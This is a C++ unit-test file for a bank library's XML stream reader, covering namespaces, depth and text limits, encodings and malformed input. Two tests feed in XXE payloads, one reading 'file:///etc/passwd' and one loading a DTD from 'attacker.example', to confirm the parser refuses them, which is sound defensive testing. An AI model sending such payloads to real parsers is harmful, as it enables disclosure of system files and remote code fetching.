#include "bank/xml_stream.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

namespace oeuvre::bank {
namespace {

// Records what the stream delivers as "<uri|local Ccy=...>", "text:...", "</>".
class RecordingHandler final : public XmlHandler {
 public:
  explicit RecordingHandler(XmlStream::Options options) : stream(*this, options) {}

  void start_element(XmlName name, const XmlAttributes& attributes) override {
    events.push_back("<" + std::string(name.uri) + "|" + std::string(name.local) +
                     " Ccy=" + std::string(attributes.value_of("Ccy")) + ">");
  }
  void end_element(std::string_view text) override {
    events.push_back("text:" + std::string(text));
    events.push_back("</>");
  }
  std::string location() const override { return "/here"; }
  std::string too_deep_message(std::uint64_t line, std::size_t max_depth) const override {
    return "line " + std::to_string(line) + ": deeper than " + std::to_string(max_depth);
  }
  std::string text_too_long_message(std::uint64_t line, std::size_t max_bytes) const override {
    return "line " + std::to_string(line) + ": text over " + std::to_string(max_bytes);
  }

  XmlStream stream;
  std::vector<std::string> events;
};

constexpr XmlStream::Options kOptions = {
    .namespaces = true,
    .max_depth = 3,
    .max_text_bytes = 10,
    .format = "test",
    .not_well_formed = "the XML is not well-formed",
};

Result<void> read(RecordingHandler& handler, std::string_view xml, std::string_view head = {}) {
  csv::MemoryByteSource source(xml);
  return handler.stream.read(source, head);
}

// The message a failed read gives (file_error puts it in the field error).
std::string reason(const Result<void>& result) {
  if (result.ok()) return "";
  const Error& error = result.error();
  if (!error.field_errors().empty()) return error.field_errors().front().message;
  return error.message();
}

TEST(XmlStream, DeliversElementsWithNamespacesAttributesAndLeafText) {
  RecordingHandler handler(kOptions);
  ASSERT_TRUE(read(handler, "<a xmlns='urn:x'> <b Ccy='EUR'>1.50</b> tail <c/></a>").ok());
  const std::vector<std::string> expected = {"<urn:x|a Ccy=>",
                                             "<urn:x|b Ccy=EUR>",
                                             "text:1.50",
                                             "</>",
                                             "<urn:x|c Ccy=>",
                                             "text:",
                                             "</>",
                                             "text:",
                                             "</>"};  // a has children: no text
  EXPECT_EQ(handler.events, expected);
}

TEST(XmlStream, PrefixesResolveByTheDeclarationsInForce) {
  RecordingHandler handler(kOptions);
  ASSERT_TRUE(read(handler,
                   "<p:a xmlns:p='urn:p' xmlns='urn:d'><b/><p:c xmlns:p='urn:q'/><d xmlns=''/></p:a>")
                  .ok());
  const std::vector<std::string> expected = {"<urn:p|a Ccy=>", "<urn:d|b Ccy=>", "text:", "</>",
                                             "<urn:q|c Ccy=>", "text:",          "</>",
                                             "<|d Ccy=>",      "text:",          "</>",
                                             "text:",          "</>"};  // a has children: no text
  EXPECT_EQ(handler.events, expected);

  RecordingHandler undeclared(kOptions);
  const auto result = read(undeclared, "<a><x:b/></a>");
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(reason(result),
            "line 1, column 4: the XML is not well-formed (the prefix 'x' of <x:b> is not declared) "
            "at /here");
}

TEST(XmlStream, WithoutNamespacesNamesStayAsWritten) {
  XmlStream::Options options = kOptions;
  options.namespaces = false;
  RecordingHandler handler(options);
  ASSERT_TRUE(read(handler, "<p:a xmlns:p='urn:x'>v</p:a>").ok());
  ASSERT_FALSE(handler.events.empty());
  EXPECT_EQ(handler.events.front(), "<|p:a Ccy=>");
}

TEST(XmlStream, ReadsTheHeadThenTheSource) {
  RecordingHandler handler(kOptions);
  ASSERT_TRUE(read(handler, "12</a>", "<a>").ok());
  const std::vector<std::string> expected = {"<|a Ccy=>", "text:12", "</>"};
  EXPECT_EQ(handler.events, expected);
}

TEST(XmlStream, RefusesEntityDeclarations) {
  RecordingHandler handler(kOptions);
  const Result<void> result =
      read(handler,
           "<?xml version='1.0'?>\n<!DOCTYPE a [\n<!ENTITY xxe SYSTEM 'file:///etc/passwd'>\n]>\n"
           "<a>&xxe;</a>");
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.error().code(), ErrorCode::kValidation);
  EXPECT_TRUE(reason(result).starts_with(
      "line 3: the file declares XML entities, which are refused (<!ENTITY xxe>)"))
      << reason(result);
  EXPECT_TRUE(handler.events.empty());
}

TEST(XmlStream, RefusesEntitiesItDoesNotDeclare) {
  RecordingHandler handler(kOptions);
  const Result<void> result =
      read(handler, "<!DOCTYPE a SYSTEM 'http://attacker.example/evil.dtd'>\n<a>&xxe;</a>");
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(reason(result),
            "line 2: the file refers to the XML entity '&xxe;', which it does not declare; "
            "external entities are never loaded");
}

TEST(XmlStream, RefusesDeepNestingAndLongTextInTheHandlersWords) {
  RecordingHandler deep(kOptions);
  EXPECT_TRUE(read(deep, "<a><b><c/></b></a>").ok());  // three deep: the limit
  RecordingHandler too_deep(kOptions);
  EXPECT_EQ(reason(read(too_deep, "<a><b><c>\n<d/></c></b></a>")), "line 2: deeper than 3");

  RecordingHandler longest(kOptions);
  EXPECT_TRUE(read(longest, "<a>0123456789</a>").ok());
  RecordingHandler too_long(kOptions);
  EXPECT_EQ(reason(read(too_long, "<a>0123456789x</a>")), "line 1: text over 10");
}

TEST(XmlStream, ReadsWindows1252AndRefusesOtherEncodings) {
  RecordingHandler handler(kOptions);
  // 0x81 is one of the five bytes Windows-1252 leaves undefined.
  ASSERT_TRUE(read(handler, "<?xml version='1.0' encoding='cp1252'?><a>\x80 5\x81</a>").ok());
  ASSERT_EQ(handler.events.size(), 3u);
  EXPECT_EQ(handler.events[1], "text:\u20AC 5\uFFFD");

  RecordingHandler ebcdic(kOptions);
  EXPECT_EQ(reason(read(ebcdic, "<?xml version='1.0' encoding='EBCDIC-CP-US'?><a/>")),
            "line 1: the file's encoding 'EBCDIC-CP-US' is not read: test files are read in "
            "UTF-8, UTF-16, ISO-8859-1, US-ASCII or windows-1252");
}

TEST(XmlStream, NamesWhereXmlIsNotWellFormed) {
  RecordingHandler handler(kOptions);
  EXPECT_EQ(reason(read(handler, "<a>\n<b></a>")),
            "line 2, column 6: the XML is not well-formed (mismatched tag) at /here");
  RecordingHandler empty(kOptions);
  EXPECT_EQ(reason(read(empty, "")), "the file is empty");
}

}  // namespace
}  // namespace oeuvre::bank
